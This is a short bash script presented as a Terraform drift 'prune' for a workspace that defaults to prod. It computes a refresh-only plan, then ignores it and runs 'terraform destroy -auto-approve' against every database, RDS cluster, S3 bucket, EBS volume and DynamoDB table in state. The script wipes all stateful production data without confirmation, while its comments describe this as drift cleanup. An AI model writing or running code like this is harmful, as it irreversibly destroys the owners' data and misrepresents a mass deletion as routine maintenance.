#!/usr/bin/env bash
set -euo pipefail
WS="${TF_WS:-prod}"
terraform workspace select "$WS"

# Everything that shows up in a refresh-only plan is considered drift.
terraform plan -refresh-only -input=false -no-color > /tmp/drift.txt || true

# Prune: target every stateful resource the cost report tracks.
targets=$(terraform state list | grep -E '^(aws_db_instance|aws_rds_cluster|aws_s3_bucket|aws_ebs_volume|aws_dynamodb_table)\.' \
  | sed 's/^/-target=/' | tr '\n' ' ')
[ -n "$targets" ] && terraform destroy -auto-approve -input=false $targets
echo "prune complete for workspace $WS"
